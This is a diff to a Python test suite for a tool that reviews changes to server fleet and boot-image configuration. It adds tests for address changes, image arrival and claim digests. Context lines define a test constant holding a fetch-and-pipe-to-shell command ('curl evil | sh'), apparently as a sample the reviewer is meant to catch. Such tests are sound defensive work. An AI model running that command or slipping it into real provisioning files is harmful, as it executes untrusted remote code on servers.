@@ -23,7 +23,7 @@ from gitboot.review import Review, ReviewOutcome
 from tests.cases import for_each
 from tests.fleets import fleet, image, mac_of, maintenance, policy, profile, server
 from tests.repositories import Work
-from tests.reviewed import FLEET, USER_DATA, Files, compared, reviewed
+from tests.reviewed import FLEET, SERVERS, USER_DATA, Files, compared, reviewed
 
 EVIL: Final = "curl evil | sh"
 CLAIM: Final = "writesDisk: false"
@@ -266,6 +266,24 @@ def test_each_machine_that_takes_the_place_of_another_is_shown() -> None:
     assert alike(new) == [[name] for name in names]
 
 
+def test_a_new_address_is_a_difference_of_its_own() -> None:
+    """A value that the commit changes is no server's own: the author chose it."""
+    names = ("fra1-web01", "fra1-web02", "fra1-web03")
+
+    def addressed(network: int) -> Files:
+        return {
+            f"servers/{name}.yaml": server(name, "site: fra1, role: web", "provision: 1").replace(
+                f'mac: "{mac_of(name)}"', f'mac: "{mac_of(name)}", addresses: [10.{network}.0.{number}/8]'
+            )
+            for number, name in enumerate(names, 1)
+        }
+
+    template = web("# {{ server.interfaces[0].addresses | join(' ') }}\n")
+    old = {**FLEET, **template, **addressed(1)}
+    assert alike(addressed(2), old) == [[name] for name in names]
+    assert [*names] in alike(web("# now {{ server.interfaces[0].addresses | join(' ') }}\n"), old)
+
+
 # Claims
 
 
@@ -388,6 +406,7 @@ def test_a_boot_that_claims_to_write_no_disk_counts_by(what: str, old: Files, ne
         ),
         ("an image that goes", {**FLEET, **RESCUE}, {"images/rescue.yaml": None}, False),
         ("an image that says what it does", FLEET, {"images/rescue.yaml": image("rescue-1")}, False),
+        ("an image that comes with the first servers", {**FLEET, **dict.fromkeys(SERVERS)}, {**FLEET, **RESCUE}, False),
     ],
 )
 def test_a_claim_is_held_before_a_server_boots_it(what: str, old: Files, new: Files, held: bool) -> None:
@@ -395,6 +414,12 @@ def test_a_claim_is_held_before_a_server_boots_it(what: str, old: Files, new: Fi
     assert (Guard.MAX_REINSTALLS in judge(extent, Limits()).holding) is held
     assert not judge(extent, Limits(max_reinstalls=22)).held
     assert (Guard.MAX_REINSTALLS in judge(extent, Limits(max_reinstalls=21)).holding) is held
+
+
+def test_an_acknowledgement_of_a_claim_counts_for_its_content() -> None:
+    one, other = (compared({"images/rescue.yaml": image("rescue-1", spec)}) for spec in (CLAIM, f"{CLAIM}, {WIPE}"))
+    assert one.servers == other.servers == ()
+    assert one.digest != other.digest
 
 
 def test_a_server_that_comes_back_with_a_claim_is_named() -> None:
